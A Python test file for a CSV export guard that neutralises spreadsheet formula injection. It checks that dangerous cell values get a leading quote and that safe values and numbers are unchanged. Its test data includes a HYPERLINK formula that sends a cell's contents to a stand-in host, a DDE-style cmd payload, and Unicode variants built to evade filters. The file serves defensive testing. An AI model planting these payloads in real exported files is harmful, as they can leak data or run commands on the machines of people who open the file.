"""Cells of CSV files that a spreadsheet would run; which ones is written out by hand, after OWASP's page."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pytest

from ml_pipeline.exports.spreadsheet import guarded
from ml_pipeline.exports.tables import _write

RUN = [
    '=HYPERLINK("http://x?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-5",
    "@SUM(1)",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    " =1",
    "\u3000=1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    '"=1',
    "'=1",
    "\u201c=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\u22121",
]
NOT_RUN = ["", "x", "a=1", "1-2", "5", "'x", '"x"', "me@host", "\u00fc=1", " x", "#=1", "(=1)"]


@pytest.mark.parametrize("text", RUN)
def test_a_text_that_a_spreadsheet_may_run_is_marked_as_text(text: str) -> None:
    assert guarded(pa.table({"a": [text]}))["a"].to_pylist() == [f"'{text}"]


@pytest.mark.parametrize("text", NOT_RUN)
def test_any_other_text_stays(text: str) -> None:
    assert guarded(pa.table({"a": [text]}))["a"].to_pylist() == [text]


def test_no_two_texts_become_one() -> None:
    texts = [*RUN, *NOT_RUN, *(f"'{text}" for text in RUN)]
    made = guarded(pa.table({"a": texts}))["a"].to_pylist()
    assert len(set(made)) == len(set(texts))


def test_numbers_and_what_is_missing_stay_and_every_kind_of_text_is_looked_at() -> None:
    rows = pa.table(
        {
            "number": [-1.5, None, 2.0],
            "count": pa.array([-1, 2, None], pa.int64()),
            "flag": [True, None, False],
            "large": pa.array(["=1", None, "x"], pa.large_string()),
            "coded": pa.array(["=1", None, "x"]).dictionary_encode(),
        }
    )
    made = guarded(rows)
    assert made.select(["number", "count", "flag"]) == rows.select(["number", "count", "flag"])
    assert made["large"].to_pylist() == made["coded"].to_pylist() == ["'=1", None, "x"]


def test_the_file_has_them_and_numbers_without_quotation_marks(tmp_path: Path) -> None:
    rows = pa.table({"text": RUN, "number": [-float(index) for index in range(len(RUN))]})
    path = _write(tmp_path, "csv", "t", rows.schema, [rows])
    with path.open(newline="", encoding="utf-8") as file:
        read = list(csv.reader(file))[1:]
    assert [text for text, _ in read] == [f"'{text}" for text in RUN]
    assert [float(number) for _, number in read] == rows["number"].to_pylist()
    assert b",-1\n" in path.read_bytes()
